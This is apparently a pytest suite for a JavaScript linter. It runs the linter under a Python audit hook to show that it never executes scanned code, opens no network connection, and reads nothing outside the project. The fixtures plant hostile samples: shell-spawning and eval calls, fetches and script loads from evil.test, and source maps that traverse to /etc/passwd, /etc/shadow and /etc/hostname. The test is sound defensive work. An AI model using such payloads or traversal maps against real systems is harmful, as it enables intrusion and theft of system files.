"""The linter never runs what it reads, opens no socket and writes only its output and cache.

The CLI runs in a child process under a Python audit hook (PEP 578), which sees every file
open, socket, subprocess, exec and compile, with the network blocked (socket creation and name
lookups raise). The project holds code that would leave traces if it were ever executed, and
bundles whose source maps point outside the project.
"""
import base64
import json
import os
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest

RUNNER = textwrap.dedent('''
    import json, os, socket, sys
    # opened before the hook; one os.write per event, so forked --jobs workers log here too
    log_fd = os.open(os.environ["AUDIT_LOG"], os.O_WRONLY | os.O_CREAT | os.O_APPEND)

    def record(event):
        os.write(log_fd, (json.dumps(event) + "\\n").encode())
    WATCH = ("open", "socket.", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn",
             "os.spawn", "os.startfile", "compile", "ctypes.dlopen", "urllib.Request", "webbrowser.open")

    def hook(event, args):
        if not event.startswith(WATCH):
            return
        if event == "open":
            path, mode, flags = args
            record(["open", os.fsdecode(path) if isinstance(path, (str, bytes)) else str(path), mode, flags])
        elif event == "compile":
            source = args[0]
            text = source.decode("utf-8", "replace") if isinstance(source, bytes) else str(source)
            if "PWNED" in text:
                record(["compile", text[:200]])
        else:
            record([event, repr(args)[:200]])

    def blocked(*a, **k):
        raise OSError("network blocked by the test")

    class BlockedSocket(socket.socket):  # a class, so that ssl.SSLSocket can still subclass it
        def __init__(self, *a, **k):
            blocked()

    socket.socket = BlockedSocket
    socket.create_connection = blocked
    socket.getaddrinfo = blocked
    sys.addaudithook(hook)
    from minislint.cli import main
    sys.exit(main(sys.argv[1:]))
''')

PWN = "PWNED"


def vlq_map(sources, mappings, **extra):
    return json.dumps({"version": 3, "sources": sources, "names": [], "mappings": mappings, **extra})


@pytest.fixture
def project(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.js").write_text("eval(secret);\n")
    (outside / "evil.map").write_text(vlq_map(["secret.js"], "AAAA"))
    root = tmp_path / "app"
    (root / "src").mkdir(parents=True)
    (root / "dist").mkdir()
    (root / "minis.config.json").write_text('{"dev": {"clientKey": "k"}, '
                                            '"domain": {"trustedDomains": ["https://api.example.com"]}}')
    (root / "src" / "app.js").write_text(textwrap.dedent(f"""\
        require('child_process').execSync('touch {PWN}_node');
        eval("require('fs').writeFileSync('{PWN}_eval', 'x')");
        new Function("__import__('os').system('touch {PWN}_py')")();
        fetch('https://evil.test/{PWN}');
        """))
    (root / "src" / "page.html").write_text(
        f"<script src=\"https://cdn.evil.test/{PWN}.js\"></script>\n"
        f"<script>import('https://evil.test/{PWN}.mjs'); eval(1)</script>\n"
        f"<link rel=stylesheet href=\"https://evil.test/{PWN}.css\"><img src=x onerror=\"eval(2)\">\n")
    (root / "src" / "vendor.js").write_text("var v = 1;\n" * 40_000)  # enough bytes for --jobs to fork
    (root / "src" / "setup.py").write_text(f"import os; os.system('touch {PWN}_setup')\n")
    # bundles with hostile maps: each eval must be reported at its generated position
    line = "var a=1;eval(a);\n"
    (root / "dist" / "outside.js").write_text(line + "//# sourceMappingURL=../../outside/evil.map\n")
    (root / "dist" / "escape.js").write_text(line + "//# sourceMappingURL=escape.js.map\n")
    (root / "dist" / "escape.js.map").write_text(
        vlq_map(["../../outside/secret.js", "/etc/passwd", "file:///etc/shadow"], "AAAA,QAAQ,CCAC,CCAC"))
    (root / "dist" / "badvlq.js").write_text(line + "//# sourceMappingURL=badvlq.js.map\n")
    (root / "dist" / "badvlq.js.map").write_text(vlq_map(["a.js"], "A!!!,zzzzzzzzzzzzzz,"))
    (root / "dist" / "range.js").write_text(line + "//# sourceMappingURL=range.js.map\n")
    (root / "dist" / "range.js.map").write_text(vlq_map(["a.js"], "AgBAA,QAAQ,2//////D"))
    (root / "dist" / "huge.js").write_text(line + "//# sourceMappingURL=huge.js.map\n")
    (root / "dist" / "huge.js.map").write_text(vlq_map(["a.js"], ";" * 2_000_000 + "AAAA," * 200_000))
    inline = base64.b64encode(vlq_map(["../../../../../../etc/hostname"], "AAAA,QAAQ").encode()).decode()
    (root / "dist" / "inline.js").write_text(line + f"//# sourceMappingURL=data:application/json;base64,{inline}\n")
    (outside / "link.map").write_text(vlq_map(["secret.js"], "AAAA"))
    (root / "dist" / "linked.js").write_text(line + "//# sourceMappingURL=linked.js.map\n")
    (root / "dist" / "linked.js.map").symlink_to(outside / "link.map")
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def run_audited(root, args, tmp_path):
    log = tmp_path / "audit.json"
    runner = tmp_path / "runner.py"
    runner.write_text(RUNNER)
    env = dict(os.environ, AUDIT_LOG=str(log), HOME=str(tmp_path / "home"), XDG_CACHE_HOME=str(tmp_path / "xdg"))
    proc = subprocess.run([sys.executable, str(runner), *args], cwd=root, env=env, capture_output=True, text=True)
    return proc, [json.loads(line) for line in log.read_text().splitlines()]


def _library_probe(path: Path, test_dir: Path) -> bool:
    """A file a library creates and deletes in the system temp dir when imported (the stdlib's
    tempfile writability check, filelock's hard-link probe): gone after the run, never ours."""
    temp = Path(tempfile.gettempdir()).resolve()
    return path.is_relative_to(temp) and not path.is_relative_to(test_dir.resolve()) and not path.exists()


def _written(mode, flags):
    if isinstance(mode, str):
        return any(c in mode for c in "wax+")
    return bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND))


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_nothing_run_fetched_or_written_and_nothing_outside_read(project, tmp_path, jobs):
    out_file = project / "report.json"
    proc, events = run_audited(project, ["check", "--jobs", jobs, "--format", "json", "--output", str(out_file),
                                         "."], tmp_path)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr

    # nothing executed, no socket, no subprocess; ctypes loads only the running process itself
    # (dlopen(NULL)): forked workers ask Linux to end them with their parent (parallel.py)
    assert [e for e in events if e[0] != "open" and e != ["ctypes.dlopen", "(None,)"]] == []
    assert sorted(p.name for p in tmp_path.rglob(f"*{PWN}*")) == []

    # writes: the report and the cache, nothing else
    cache = tmp_path / "xdg" / "minislint"  # the user's cache folder (XDG_CACHE_HOME), never the project
    writes = sorted({e[1] for e in events if e[0] == "open" and _written(e[2], e[3])
                     and not e[1].isdigit()})  # open(fd) re-opens a descriptor already logged by path
    writes = [Path(os.path.realpath(os.path.join(project, w))) for w in writes]
    others = [w for w in writes if not (w == out_file.resolve() or w.is_relative_to(cache.resolve())
                                        or _library_probe(w, tmp_path))]
    assert writes and others == []

    # reads: the project, and Python's own files (stdlib, installed packages); never `outside/`
    opened = {os.path.realpath(os.path.join(project, e[1])) for e in events if e[0] == "open" and not e[1].isdigit()}
    assert str((project / "src" / "app.js").resolve()) in opened  # the hook does see the reads
    assert not [p for p in opened if p.startswith(str((tmp_path / "outside").resolve()))]
    assert not [p for p in opened if p.startswith(("/etc/passwd", "/etc/shadow", "/etc/hostname"))]

    # every hostile-map bundle still reports its eval: at the generated position when the map is
    # unusable (with a source-map note at its comment), or mapped but with nothing outside opened
    found = json.loads(out_file.read_text())
    dist = sorted((f["rule"], f["path"], f["line"], f["column"], (f.get("generated") or {}).get("path"))
                  for f in found if f["rule"] in ("no-eval", "source-map") and "src/" not in f["path"])
    assert dist == sorted(
        [("no-eval", f"dist/{name}.js", 1, 9, None) for name in ("badvlq", "huge", "linked", "outside", "range")]
        + [("source-map", f"dist/{name}.js", 2, 1, None) for name in ("badvlq", "linked", "outside", "range")]
        + [("no-eval", "../../outside/secret.js", 1, 9, "dist/escape.js"),      # shown as written, not read
           ("no-eval", "../../../../../../etc/hostname", 1, 9, "dist/inline.js")])
    assert ("src/app.js", 2, 1) in [(f["path"], f["line"], f["column"]) for f in found if f["rule"] == "no-eval"]


def test_cache_and_output_can_be_turned_off(project, tmp_path):
    proc, events = run_audited(project, ["check", "--no-cache", "--jobs", "1", "--format", "json", "."], tmp_path)
    assert proc.returncode == 1
    writes = sorted({e[1] for e in events if e[0] == "open" and _written(e[2], e[3])})
    assert [w for w in writes if not _library_probe(Path(w), tmp_path)] == []
    assert not (project / ".minislint_cache").exists() and not (tmp_path / "xdg").exists()
